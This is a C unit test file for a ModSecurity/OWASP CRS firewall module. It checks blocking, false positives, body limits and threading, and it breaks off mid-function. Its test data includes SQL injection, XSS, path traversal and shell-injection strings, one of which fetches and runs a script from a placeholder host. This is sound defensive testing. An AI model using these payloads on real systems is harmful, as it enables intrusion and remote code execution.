/*
 * waf_test.c - unit tests of src/mod/waf/modsec.c, the WAF engine, against
 * the real OWASP CRS installed by Debian (modsecurity-crs 3.3.4).
 *
 * Checked: classic attacks are refused (SQL injection, XSS in the query
 * and in a form body, path traversal in its encoded forms, shell
 * injection); ordinary traffic (browser GETs, forms with apostrophes,
 * JSON APIs, multipart uploads of text and PNG files, CORS preflights...)
 * scores nothing; detect_only reports and never refuses; paranoia 2 is
 * stricter than 1; body bytes past body_limit are not inspected, a body
 * cut there is not refused for failing to parse, and what parses up to the
 * cut is inspected (JSON, XML; not multipart); body_limit 0 inspects no
 * body; a body that does not parse is refused with 400; fake log fields in
 * a request do not change the reported ids; the verdicts of checks
 * running on several threads at once on one rule set do not mix, while
 * other rule sets are loaded and freed (a reload); nothing is printed.
 * Prints how long one check takes (a GET, a 16 KiB form POST).
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <pthread.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "mod/waf/modsec.h"

#define H(n, v) { n, sizeof(n) - 1, v, sizeof(v) - 1 }
#define MAXH 32
#define GET_(u) { .method = "GET", .uri = (u) }
#define BODY_(m, u, ct, b) { .method = (m), .uri = (u), .ctype = (ct), .body = (b), .body_len = sizeof(b) - 1 }

/* Rule sets shared by the tests: loaded once. */
static struct moat_waf *waf_pl1;   /* blocking, paranoia 1, body limit 64 KiB */
static struct moat_waf *waf_pl2;   /* blocking, paranoia 2 */
static struct moat_waf *waf_det;   /* detect_only, paranoia 1 */
static struct moat_waf *waf_small; /* blocking, body limit 1 KiB */

/* What a browser sends with every request. */
static const struct moat_waf_header browser[] = {
	H("Host", "shop.example.com"),
	H("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
			"Chrome/120.0.0.0 Safari/537.36"),
	H("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
	H("Accept-Language", "en-US,en;q=0.9,fr;q=0.8"),
	H("Accept-Encoding", "gzip, deflate, br"),
	H("Connection", "keep-alive"),
	H("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; _ga=GA1.2.1234567890.1700000000"),
	H("Sec-Fetch-Site", "same-origin"),
	H("Sec-Fetch-Mode", "navigate"),
	H("Sec-Fetch-Dest", "document"),
	H("Upgrade-Insecure-Requests", "1"),
};

struct rq {
	const char *method;
	const char *uri;
	const char *ctype;          /* Content-Type, or NULL */
	const char *body;
	size_t body_len;            /* bytes given */
	size_t full_len;            /* Content-Length (0: body_len) */
	int incomplete;
	const struct moat_waf_header *extra;
	size_t nextra;
	int plain;                  /* 1: curl-like headers, not a browser's */
	const char *ua;             /* with plain: User-Agent instead of curl's */
};

static int run(struct moat_waf *w, const struct rq *q, struct moat_waf_verdict *v)
{
	struct moat_waf_header h[MAXH];
	char clen[32];
	size_t n = 0;

	if (q->plain) {
		h[n++] = (struct moat_waf_header)H("Host", "127.0.0.1:8080");
		if (q->ua)
			h[n++] = (struct moat_waf_header){ "User-Agent", 10, q->ua, strlen(q->ua) };
		else
			h[n++] = (struct moat_waf_header)H("User-Agent", "curl/7.88.1");
		h[n++] = (struct moat_waf_header)H("Accept", "*/*");
	} else {
		for (size_t i = 0; i < sizeof(browser) / sizeof(browser[0]); i++)
			h[n++] = browser[i];
	}
	for (size_t i = 0; i < q->nextra && n < MAXH - 2; i++)
		h[n++] = q->extra[i];
	if (q->ctype)
		h[n++] = (struct moat_waf_header){ "Content-Type", 12, q->ctype, strlen(q->ctype) };
	if (q->body || strcmp(q->method, "POST") == 0 || strcmp(q->method, "PUT") == 0 ||
	    strcmp(q->method, "PATCH") == 0) {
		snprintf(clen, sizeof(clen), "%zu", q->full_len ? q->full_len : q->body_len);
		h[n++] = (struct moat_waf_header){ "Content-Length", 14, clen, strlen(clen) };
	}
	struct moat_waf_req r = {
		.client_ip = "127.0.0.1", .client_port = 51234, .server_ip = "127.0.0.1", .server_port = 8080,
		.method = q->method, .method_len = strlen(q->method),
		.uri = q->uri, .uri_len = strlen(q->uri), .version = "1.1",
		.headers = h, .nheaders = n,
		.body = q->body, .body_len = q->body_len, .body_complete = !q->incomplete,
	};
	return moat_waf_check(w, &r, v);
}

static struct moat_waf_verdict get(struct moat_waf *w, const char *uri)
{
	struct rq q = { .method = "GET", .uri = uri };
	struct moat_waf_verdict v;

	assert_int_equal(run(w, &q, &v), 0);
	return v;
}

static struct moat_waf_verdict post(struct moat_waf *w, const char *uri, const char *ctype, const char *body,
				    size_t len)
{
	struct rq q = { .method = "POST", .uri = uri, .ctype = ctype, .body = body, .body_len = len };
	struct moat_waf_verdict v;

	assert_int_equal(run(w, &q, &v), 0);
	return v;
}

static int has_id(const struct moat_waf_verdict *v, const char *id)
{
	size_t n = strlen(id);

	for (const char *p = v->matched; (p = strstr(p, id)) != NULL; p += n)
		if ((p == v->matched || p[-1] == ',') && (p[n] == ',' || p[n] == '\0'))
			return 1;
	return 0;
}

static void expect_block(const char *what, struct moat_waf_verdict v)
{
	if (!v.block)
		fail_msg("%s: not refused (score %u, matched %s)", what, v.score, v.matched);
	assert_int_equal(v.status, 403);
	assert_int_equal(v.rule_id, MOAT_WAF_RULE_CRS_BLOCK);
	assert_true(v.score >= 5);
	assert_true(has_id(&v, "949110"));
	assert_true(v.msg[0] != '\0');
}

static void expect_clean(const char *what, struct moat_waf_verdict v)
{
	if (v.block || v.score || v.matched[0] || v.rule_id)
		fail_msg("%s: false positive: block %d score %u rule %u matched %s msg %s", what, v.block, v.score,
			 v.rule_id, v.matched, v.msg);
}

static struct moat_waf *load(int detect_only, unsigned paranoia, size_t body_limit)
{
	struct moat_waf_conf c = {
		.detect_only = detect_only, .paranoia = paranoia, .anomaly_threshold = 5, .body_limit = body_limit,
	};
	char *err = NULL;
	struct moat_waf *w = moat_waf_new(&c, &err);

	if (!w)
		fail_msg("moat_waf_new: %s", err ? err : "(no message)");
	assert_null(err);
	return w;
}

static int setup(void **state)
{
	waf_pl1 = load(0, 1, 64 * 1024);
	waf_pl2 = load(0, 2, 64 * 1024);
	waf_det = load(1, 1, 64 * 1024);
	waf_small = load(0, 1, 1024);
	return 0;
}

static int teardown(void **state)
{
	moat_waf_free(waf_pl1);
	moat_waf_free(waf_pl2);
	moat_waf_free(waf_det);
	moat_waf_free(waf_small);
	return 0;
}

/* ---- loading ----------------------------------------------------------- */

static void test_load_errors(void **state)
{
	struct moat_waf_conf c = { .paranoia = 1, .anomaly_threshold = 5, .body_limit = 1024, .crs_dir = "/nonexistent" };
	char *err = NULL;

	assert_null(moat_waf_new(&c, &err));
	assert_non_null(err);
	assert_true(strncmp(err, "cannot load CRS rules from /nonexistent/crs-setup.conf", 54) == 0);
	free(err);

	c.crs_dir = NULL;
	c.paranoia = 5;
	err = NULL;
	assert_null(moat_waf_new(&c, &err));
	assert_non_null(err);
	free(err);

	c.paranoia = 1;
	c.anomaly_threshold = 0;
	err = NULL;
	assert_null(moat_waf_new(&c, &err));
	assert_non_null(err);
	free(err);

	moat_waf_free(NULL);
}

/* ---- attacks ----------------------------------------------------------- */

static void test_sqli(void **state)
{
	struct moat_waf_verdict v;

	v = get(waf_pl1, "/?id=1'%20OR%20'1'='1");
	expect_block("' OR '1'='1", v);
	assert_true(has_id(&v, "942100"));
	assert_string_equal(v.msg, "SQL Injection Attack Detected via libinjection");
	assert_true(strncmp(v.matched, "942100,", 7) == 0);

	expect_block("' OR '1'='1 (+ and %-escapes)", get(waf_pl1, "/item?id=1%27+OR+%271%27%3D%271"));
	expect_block("UNION SELECT", get(waf_pl1, "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"));
	expect_block("UNION ALL SELECT", get(waf_pl1, "/?cat=-1+union+all+select+1,2,concat(user(),0x3a,version())"));
	expect_block("SQLi in a form", post(waf_pl1, "/login", "application/x-www-form-urlencoded",
					    "user=admin%27--&pass=x", 21));
	{
		static const char xml[] = "<?xml version=\"1.0\"?><login><user>admin' OR '1'='1</user></login>";
		static const char js[] = "{\"user\":{\"id\":\"1 UNION SELECT password FROM users\"}}";

		expect_block("SQLi in XML", post(waf_pl1, "/soap", "text/xml", xml, sizeof(xml) - 1));
		expect_block("SQLi in JSON", post(waf_pl1, "/api/v1/login", "application/json", js, sizeof(js) - 1));
	}
	{
		static const struct moat_waf_header ck[] = { H("Cookie", "id=1' or 1=1-- ") };
		struct rq q = { .method = "GET", .uri = "/", .extra = ck, .nextra = 1 };

		assert_int_equal(run(waf_pl1, &q, &v), 0);
		expect_block("SQLi in a cookie", v);
	}
}

static void test_xss(void **state)
{
	static const char form[] = "name=Eve&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
	struct moat_waf_verdict v;

	v = get(waf_pl1, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E");
	expect_block("<script> in the query", v);
	assert_true(has_id(&v, "941100"));
	assert_string_equal(v.msg, "XSS Attack Detected via libinjection");

	expect_block("<script> in a form body", post(waf_pl1, "/comments", "application/x-www-form-urlencoded",
						    form, sizeof(form) - 1));
	expect_block("<img onerror>", get(waf_pl1, "/?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E"));
	expect_block("javascript: URI", get(waf_pl1, "/?next=javascript:alert(1)"));
	{
		static const char js[] = "{\"comment\":\"<script>alert(1)</script>\"}";

		expect_block("<script> in JSON", post(waf_pl1, "/api/comments", "application/json", js, sizeof(js) - 1));
	}
}

static void test_traversal(void **state)
{
	static const char *const uris[] = {
		"/?file=../../../../etc/passwd",
		"/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
		"/..%2f..%2f..%2fetc%2fpasswd",
		"/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
		"/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"/?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
		"/static/..%5c..%5c..%5cwindows%5cwin.ini",
	};

	for (size_t i = 0; i < sizeof(uris) / sizeof(uris[0]); i++)
		expect_block(uris[i], get(waf_pl1, uris[i]));
}

static void test_shell(void **state)
{
	static const char form[] = "host=8.8.8.8%3B+cat+%2Fetc%2Fpasswd";
	static const char *const uris[] = {
		"/ping?host=127.0.0.1;cat%20/etc/passwd",
		"/?cmd=%7Cwhoami",
		"/?h=127.0.0.1%7Cuname%20-a",
		"/?q=$(curl%20http://evil.example/x.sh%20|%20sh)",
		"/?file=x%60whoami%60",
		"/?ip=1.1.1.1%26%26wget%20http://203.0.113.9/a",
	};

	for (size_t i = 0; i < sizeof(uris) / sizeof(uris[0]); i++)
		expect_block(uris[i], get(waf_pl1, uris[i]));
	expect_block("; cat /etc/passwd in a form", post(waf_pl1, "/tools/ping", "application/x-www-form-urlencoded",
							  form, sizeof(form) - 1));
}

/* ---- ordinary traffic -------------------------------------------------- */

/* A multipart body with one field and one file. */
static size_t multipart(char *out, size_t size, const char *fname, const char *ftype, const char *data, size_t len)
{
	int n = snprintf(out, size,
			 "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
			 "Content-Disposition: form-data; name=\"title\"\r\n\r\n"
			 "Holiday photos - O'Brien family\r\n"
			 "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
			 "Content-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\n"
			 "Content-Type: %s\r\n\r\n", fname, ftype);
	size_t off = (size_t)n;

	assert_true(n > 0 && off + len + 64 < size);
	memcpy(out + off, data, len);
	off += len;
	n = snprintf(out + off, size - off, "\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n");
	return off + (size_t)n;
}

static void test_no_false_positives(void **state)
{
	static const char png[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0\x1f\xf3\xff" "a"
				  "\0\0\0\x19IDATx\x9c\x63\xfc\xff\x9f\xa1\x1e\x20\x60\x20\x0a\x30\x8c\x1a\x30"
				  "\x6a\xc0\xa8\x01\x03\x00\x00\xd6\x0a\x1f\xe1\0\0\0\0IEND\xae\x42\x60\x82";
	static const char txt[] = "Shopping list:\n- eggs (12)\n- flour, 1kg\n- Ben & Jerry's\n\nThanks!\n";
	static const struct moat_waf_header cors[] = {
		H("Origin", "https://app.example.com"),
		H("Access-Control-Request-Method", "PUT"),
		H("Access-Control-Request-Headers", "content-type,authorization"),
	};
	static const struct moat_waf_header api[] = {
		H("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6Ik"
				   "pvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"),
		H("X-Request-Id", "5f0c6a2e-8b1d-4c3e-9a7f-2d4b6e8f0a1c"),
		H("Referer", "https://shop.example.com/cart?step=2&coupon=SPRING-24"),
	};
	static const struct moat_waf_header cond[] = {
		H("If-None-Match", "W/\"5e15153d-120f\""),
		H("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"),
		H("Cache-Control", "max-age=0"),
	};
	char mp1[1024], mp2[1024];
	size_t mp1_len = multipart(mp1, sizeof(mp1), "list.txt", "text/plain", txt, sizeof(txt) - 1);
	size_t mp2_len = multipart(mp2, sizeof(mp2), "pixel.png", "image/png", png, sizeof(png) - 1);
	const char *mpct = "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW";
	const char *form = "application/x-www-form-urlencoded";
	const char *json = "application/json";
	const struct rq reqs[] = {
		GET_("/"),
		{ .method = "GET", .uri = "/", .plain = 1 },
		{ .method = "HEAD", .uri = "/index.html" },
		GET_("/static/js/app.3f9a1c.js?v=1.2.3"),
		GET_("/images/logo@2x.png"),
		GET_("/search?q=red+shoes&size=10,11&sort=price-asc&page=2"),
		GET_("/search?q=C%2B%2B+programming+%26+design+patterns"),
		GET_("/api/v1/users/42?fields=id,name,email&include=orders,addresses"),
		GET_("/blog/2024/05/hello-world?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale"),
		GET_("/maps?ll=40.7128,-74.0060&z=12&q=Caf%C3%A9+de+Flore,+Paris"),
		GET_("/subscribe?email=john.doe%2Bnews%40example.com&lists=a,b,c"),
		{ .method = "GET", .uri = "/products/123", .extra = cond, .nextra = 3 },
		{ .method = "GET", .uri = "/api/orders?status=shipped&from=2024-01-01T00:00:00Z", .extra = api, .nextra = 3 },
		{ .method = "OPTIONS", .uri = "/api/v1/items/17", .extra = cors, .nextra = 3 },
		BODY_("POST", "/login", form, "username=jdoe&password=S3cr3t%21Pass&remember=on"),
		BODY_("POST", "/contact", form,
		      "name=Conor+O%27Brien&email=conor.obrien%40example.com&message=Hi%2C+I%27d+like+to+know+if+you+"
		      "ship+to+Ireland.+Thanks%21"),
		BODY_("POST", "/checkout/address", form,
		      "street=221B+Baker+Street%2C+Apt.+4&city=London&zip=NW1+6XE&country=UK&phone=%2B44+20+7224+3688"),
		BODY_("POST", "/account", form, "first=Mary-Jane&last=D%27Angelo&company=Smith+%26+Sons&newsletter=yes"),
		BODY_("POST", "/api/v1/users", json,
		      "{\"name\":\"Miles O'Brien\",\"email\":\"miles@example.com\",\"age\":42,\"tags\":[\"a\",\"b\"]}"),
		BODY_("POST", "/api/v1/orders", "application/json; charset=utf-8",
		      "{\"order\":{\"id\":1234,\"items\":[{\"sku\":\"AB-12\",\"qty\":2,\"price\":19.99}],"
		      "\"note\":\"Leave it at the back door, please. It's the green one.\"}}"),
		BODY_("PUT", "/api/v1/users/42", json, "{\"name\":\"Jane\",\"active\":true,\"address\":null}"),
		BODY_("PATCH", "/api/v1/users/42", json, "{\"nickname\":\"JJ\"}"),
		{ .method = "DELETE", .uri = "/api/v1/items/17", .extra = api, .nextra = 3 },
		{ .method = "POST", .uri = "/upload", .ctype = mpct, .body = mp1, .body_len = mp1_len },
		{ .method = "POST", .uri = "/upload", .ctype = mpct, .body = mp2, .body_len = mp2_len },
		BODY_("POST", "/api/v1/ping", json, ""),
		BODY_("POST", "/api/v1/events", json, "[{\"type\":\"click\",\"x\":10,\"y\":20},{\"type\":\"scroll\"}]"),
		BODY_("POST", "/orders", "text/xml; charset=utf-8",
		      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>12</id><note>Leave it at the door, "
		      "it's fine</note><customer>O'Brien &amp; Sons</customer></order>"),
		BODY_("POST", "/stock", "application/soap+xml",
		      "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\">"
		      "<soap:Body><m:GetPrice xmlns:m=\"https://www.example.org/stock\"><m:Item>Apples</m:Item>"
		      "</m:GetPrice></soap:Body></soap:Envelope>"),
	};

	for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
		const struct rq *q = &reqs[i];
		struct moat_waf_verdict v;
		char what[160];

		snprintf(what, sizeof(what), "%s %s", q->method, q->uri);
		assert_int_equal(run(waf_pl1, q, &v), 0);
		expect_clean(what, v);
		/* Blocking must not depend on the mode. */
		assert_int_equal(run(waf_det, q, &v), 0);
		expect_clean(what, v);
	}
}

/* ---- modes and limits -------------------------------------------------- */

static void test_detect_only(void **state)
{
	struct moat_waf_verdict v = get(waf_det, "/?id=1'%20OR%20'1'='1");

	assert_int_equal(v.block, 0);
	assert_int_equal(v.status, 0);
	assert_int_equal(v.rule_id, MOAT_WAF_RULE_CRS_BLOCK);
	assert_int_equal(v.score, 5);
	assert_string_equal(v.matched, "942100,949110");
	assert_string_equal(v.msg, "SQL Injection Attack Detected via libinjection");

	/* Under the threshold: the score is still reported. */
	v = get(waf_pl2, "/?a='%20having");
	assert_int_equal(v.block, 0);
	assert_int_equal(v.score, 3);
	assert_int_equal(v.rule_id, 942110);

	v = get(waf_det, "/?q=%3Cscript%3Ealert(1)%3C/script%3E&f=../../../../etc/passwd");
	assert_int_equal(v.block, 0);
	assert_true(v.score >= 10);
}

static void test_paranoia(void **state)
{
	struct moat_waf_verdict v1 = get(waf_pl1, "/?a=%60id%60");
	struct moat_waf_verdict v2 = get(waf_pl2, "/?a=%60id%60");

	expect_clean("`id` at paranoia 1", v1);
	expect_block("`id` at paranoia 2", v2);
	/* And python-requests is a scripting client at paranoia 2 only. */
	{
		struct rq q = { .method = "GET", .uri = "/", .plain = 1, .ua = "python-requests/2.31.0" };
		struct moat_waf_verdict v;

		assert_int_equal(run(waf_pl1, &q, &v), 0);
		expect_clean("python-requests at paranoia 1", v);
		assert_int_equal(run(waf_pl2, &q, &v), 0);
		expect_block("python-requests at paranoia 2", v);
		assert_true(has_id(&v, "913101"));
	}
}

static void test_body_limit(void **state)
{
	static const char attack[] = "&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
	char body[3000];
	struct moat_waf_verdict v;
	struct rq q = { .method = "POST", .uri = "/comments", .ctype = "application/x-www-form-urlencoded" };

	/* The attack past 1 KiB: not seen, whether the caller cut the body
	 * or handed over all of it. */
	memcpy(body, "text=", 5);
	memset(body + 5, 'a', 2000 - 5);
	memcpy(body + 2000, attack, sizeof(attack) - 1);
	q.body = body;
	q.body_len = 2000 + sizeof(attack) - 1;
	assert_int_equal(run(waf_small, &q, &v), 0);
	expect_clean("attack past body_limit (whole body given)", v);
	q.body_len = 1024;
	q.full_len = 2000 + sizeof(attack) - 1;
	q.incomplete = 1;
	assert_int_equal(run(waf_small, &q, &v), 0);
	expect_clean("attack past body_limit (body cut)", v);
	/* The same attack within the limit is seen. */
	assert_int_equal(run(waf_pl1, &q, &v), 0);
	expect_clean("the first KiB only", v);
	q.body_len = 2000 + sizeof(attack) - 1;
	q.incomplete = 0;
	q.full_len = 0;
	assert_int_equal(run(waf_pl1, &q, &v), 0);
	expect_block("attack within body_limit", v);
	memcpy(body + 500, attack, sizeof(attack) - 1);
	q.body_len = 1024;
	q.full_len = 2000 + sizeof(attack) - 1;
	q.incomplete = 1;
	assert_int_equal(run(waf_small, &q, &v), 0);
	expect_block("attack within the first KiB of a cut body", v);

	/* body_limit 0: bodies are not inspected, the rest is. */
	{
		struct moat_waf *w = load(0, 1, 0);

		assert_int_equal(run(w, &q, &v), 0);
		expect_clean("body with body_limit 0", v);
		expect_block("query with body_limit 0", get(w, "/?q=%3Cscript%3Ealert(1)%3C/script%3E"));
		expect_clean("XML with body_limit 0", post(w, "/x", "application/xml", "<a>1' or 1=1</a>", 16));
		expect_clean("multipart with body_limit 0",
			     post(w, "/x", "multipart/form-data; boundary=XyZ",
				  "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--XyZ--\r\n", 63));
		moat_waf_free(w);
	}
}

/* Of a body cut at body_limit, what parses up to the cut is inspected:
 * JSON and XML values, not multipart parts (ModSecurity drops a multipart
 * body it cannot parse whole, see modsec.c). */
static void test_cut_bodies(void **state)
{
	static const char tail[] = "\r\n--XyZ--\r\n";
	static char body[4200];
	struct moat_waf_verdict v;
	struct rq q = { .method = "POST", .uri = "/f", .body = body, .body_len = 1024, .incomplete = 1 };
	int n;

	n = snprintf(body, sizeof(body), "{\"q\":\"<script>alert(1)</script>\",\"pad\":\"");
	memset(body + n, 'x', 3000);
	q.ctype = "application/json";
	q.full_len = (size_t)n + 3000 + 2;
	assert_int_equal(run(waf_small, &q, &v), 0);
	expect_block("cut JSON", v);

	n = snprintf(body, sizeof(body), "<a><q>&lt;script&gt;alert(1)&lt;/script&gt;</q><pad>");
	memset(body + n, 'x', 3000);
	q.ctype = "application/xml";
	assert_int_equal(run(waf_small, &q, &v), 0);
	expect_block("cut XML", v);

	n = snprintf(body, sizeof(body), "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n"
		     "<script>alert(1)</script>\r\n--XyZ\r\nContent-Disposition: form-data; name=\"pad\"\r\n\r\n");
	memset(body + n, 'x', 3000);
	memcpy(body + n + 3000, tail, sizeof(tail) - 1);
	q.ctype = "multipart/form-data; boundary=XyZ";
	assert_int_equal(run(waf_small, &q, &v), 0);
	expect_clean("cut multipart (not inspected)", v);
	/* Whole, within the limit: inspected. */
	q.body_len = (size_t)n + 3000 + sizeof(tail) - 1;
	q.incomplete = 0;
	q.full_len = 0;
	assert_int_equal(run(waf_pl1, &q, &v), 0);
	expect_block("whole multipart", v);
}

static void test_body_errors(void **state)
{
	char json[2048];
	struct moat_waf_verdict v;
	struct rq q = { .method = "POST", .uri = "/api/v1/notes", .ctype = "application/json" };
	size_t n = 0;

	/* A JSON body that does not parse: 400. */
	v = post(waf_pl1, "/api/v1/notes", "application/json", "{\"a\":", 5);
	assert_int_equal(v.block, 1);
	assert_int_equal(v.status, 400);
	assert_int_equal(v.rule_id, MOAT_WAF_RULE_REQBODY);
	assert_string_equal(v.msg, "Request body does not parse");
	v = post(waf_det, "/api/v1/notes", "application/json", "{\"a\":", 5);
	assert_int_equal(v.block, 0);
	assert_true(has_id(&v, "200002"));

	/* A good JSON body cut at body_limit does not parse either, but is
	 * let through: only its first KiB is inspected. */
	n += (size_t)snprintf(json + n, sizeof(json) - n, "{\"notes\":[");
	while (n < 1800)
		n += (size_t)snprintf(json + n, sizeof(json) - n, "\"Pick up the kids at 5, don't forget\",");
	n += (size_t)snprintf(json + n, sizeof(json) - n, "\"end\"]}");
	q.body = json;
	q.body_len = 1024;
	q.full_len = n;
	q.incomplete = 1;
	assert_int_equal(run(waf_small, &q, &v), 0);
	expect_clean("JSON cut at body_limit", v);
	q.body_len = n;
	q.full_len = 0;
	q.incomplete = 0;
	assert_int_equal(run(waf_small, &q, &v), 0);
	expect_clean("JSON longer than body_limit", v);
	assert_int_equal(run(waf_pl1, &q, &v), 0);
	expect_clean("the whole JSON body", v);

	/* A multipart body without its closing boundary. */
	{
		static const char mp[] = "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n";

		v = post(waf_pl1, "/upload", "multipart/form-data; boundary=XyZ", mp, sizeof(mp) - 1);
		assert_int_equal(v.block, 1);
		assert_int_equal(v.status, 400);
	}
}

/* ---- odd input --------------------------------------------------------- */

static void test_spoofed_log_fields(void **state)
{
	/* Fake fields in the matched value and in the path. */
	struct moat_waf_verdict v = get(waf_pl1,
		"/a%22%5D%20%5Bid%20%22777%22%5D%20%5Bmsg%20%22x%22%5D?q=%3Cscript%3Ealert(1)%3C/script%3E"
		"%22%5D%20%5Bfile%20%22x%22%5D%20%5Bline%20%221%22%5D%20%5Bid%20%22999%22%5D%20%5Brev%20%22%22%5D"
		"%20%5Bmsg%20%22fake%22%5D%20%5Bdata%20%22%22%5D");

	expect_block("XSS with fake log fields", v);
	assert_null(strstr(v.matched, "777"));
	assert_null(strstr(v.matched, "999"));
	assert_null(strstr(v.msg, "fake"));
	assert_true(has_id(&v, "941100"));
}

static void test_odd_requests(void **state)
{
	static const char nul_uri[] = "/a\0<script>alert(1)</script>";
	struct moat_waf_verdict v;
	struct moat_waf_req r = {
		.method = "GET", .method_len = 3, .uri = nul_uri, .uri_len = sizeof(nul_uri) - 1,
	};

	/* NUL in the target: 400 without running the rules. */
	assert_int_equal(moat_waf_check(waf_pl1, &r, &v), 0);
	assert_int_equal(v.block, 1);
	assert_int_equal(v.status, 400);
	assert_int_equal(moat_waf_check(waf_det, &r, &v), 0);
	assert_int_equal(v.block, 0);

	/* Bare minimum: no addresses, no version, no headers. */
	r.uri = "/";
	r.uri_len = 1;
	assert_int_equal(moat_waf_check(waf_pl1, &r, &v), 0);
	assert_int_equal(v.block, 0);

	/* A long target (heap copy). */
	{
		char uri[5000];

		memcpy(uri, "/?q=", 4);
		memset(uri + 4, 'x', sizeof(uri) - 5);
		uri[sizeof(uri) - 1] = '\0';
		expect_clean("long target", get(waf_pl1, uri));
	}

	assert_int_equal(moat_waf_check(NULL, &r, &v), -EINVAL);
	assert_int_equal(moat_waf_check(waf_pl1, NULL, &v), -EINVAL);
	assert_int_equal(moat_waf_check(waf_pl1, &r, NULL), -EINVAL);
	r.nheaders = 1;
	assert_int_equal(moat_waf_check(waf_pl1, &r, &v), -EINVAL);
}

/* Nothing reaches stdout or stderr, at load or per check. */
static void test_silent(void **state)
{
	FILE *f = tmpfile();
	int out, err, fd;
	struct moat_waf *w;
	struct moat_waf_verdict v;
	long size;

	assert_non_null(f);
	fd = fileno(f);
	fflush(stdout);
	fflush(stderr);
	out = dup(1);
	err = dup(2);
	assert_true(out >= 0 && err >= 0);
	assert_int_equal(dup2(fd, 1), 1);
	assert_int_equal(dup2(fd, 2), 2);
	w = load(0, 1, 4096);
	v = get(w, "/?id=1'%20OR%20'1'='1&f=../../etc/passwd");
	v = post(w, "/api", "application/json", "{", 1);
	moat_waf_free(w);
	fflush(stdout);
	fflush(stderr);
	dup2(out, 1);
	dup2(err, 2);
	close(out);
	close(err);
	assert_int_equal(v.status, 400);
	size = lseek(fd, 0, SEEK_END);
	fclose(f);
	assert_int_equal(size, 0);
}

/* ---- threads ----------------------------------------------------------- */

#ifndef THREADS
#define THREADS 8
#endif
#ifndef ROUNDS
#define ROUNDS 30
#endif

static void *worker(void *arg)
{
	long bad = 0, k = (long)(intptr_t)arg;

	for (int i = 0; i < ROUNDS; i++) {
		struct moat_waf_verdict v;

		switch ((i + k) % 4) {
		case 0:
			v = get(waf_pl1, "/?id=1'%20OR%20'1'='1");
			bad += !v.block || strcmp(v.matched, "942100,949110") != 0 || v.score != 5;
			break;
		case 1:
			v = get(waf_pl1, "/search?q=red+shoes&size=10,11");
			bad += v.block || v.matched[0] || v.score;
			break;
		case 2: {
			/* 913100 writes the shared IP collection. */
			struct rq q = { .method = "GET", .uri = "/", .plain = 1, .ua = "sqlmap/1.7.2#stable (https://sqlmap.org)" };

			bad += run(waf_pl1, &q, &v) != 0 || !v.block || strcmp(v.matched, "913100,949110") != 0;
			break;
		}
		default:
			v = get(waf_pl1, "/?q=%3Cscript%3Ealert(1)%3C/script%3E");
			bad += !v.block || strcmp(v.matched, "941100,941110,941160,949110") != 0 || v.score != 15;
			break;
		}
	}
	return (void *)(intptr_t)bad;
}

/* Workers check requests on one rule set while the control thread loads
 * and frees others, as a reload does. */
static void test_threads(void **state)
{
	pthread_t t[THREADS];
	long bad = 0;

	for (long i = 0; i < THREADS; i++)
		assert_int_equal(pthread_create(&t[i], NULL, worker, (void *)(intptr_t)i), 0);
	for (int i = 0; i < 3; i++) {
		struct moat_waf *w = load(i & 1, 1 + (unsigned)i, 4096);
		struct moat_waf_verdict v = get(w, "/?id=1'%20OR%20'1'='1");

		assert_int_equal(v.block, !(i & 1));
		assert_true(v.score >= 5 && has_id(&v, "942100"));
		moat_waf_free(w);
	}
	for (int i = 0; i < THREADS; i++) {
		void *r;

		assert_int_equal(pthread_join(t[i], &r), 0);
		bad += (long)(intptr_t)r;
	}
	assert_int_equal(bad, 0);
}

/* ---- how long a check takes -------------------------------------------- */

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void test_timing(void **state)
{
	static char body[16 * 1024 + 1];
	struct rq g = { .method = "GET", .uri = "/search?q=red+shoes&size=10,11&sort=price-asc&page=2" };
	struct rq p = { .method = "POST", .uri = "/account", .ctype = "application/x-www-form-urlencoded" };
	struct moat_waf_verdict v;
	size_t n = 0;
	int i, rounds = 40;
	double t0, tg, tp;

	/* 16 KiB of ordinary form fields. */
	for (i = 0; n < sizeof(body) - 64; i++)
		n += (size_t)snprintf(body + n, sizeof(body) - n, "%sfield%d=Some+ordinary+text+value+number+%d",
				      i ? "&" : "", i, i);
	p.body = body;
